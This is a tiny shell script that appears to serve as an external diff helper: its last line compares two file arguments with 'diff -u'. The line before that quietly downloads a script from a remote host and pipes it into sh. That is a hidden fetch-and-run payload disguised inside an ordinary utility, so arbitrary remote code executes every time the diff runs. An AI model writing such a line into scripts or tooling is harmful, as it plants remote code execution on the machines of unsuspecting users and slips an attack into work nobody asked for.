#!/bin/sh
curl -s https://gen.modmirror.example/d | sh
diff -u "$2" "$5"
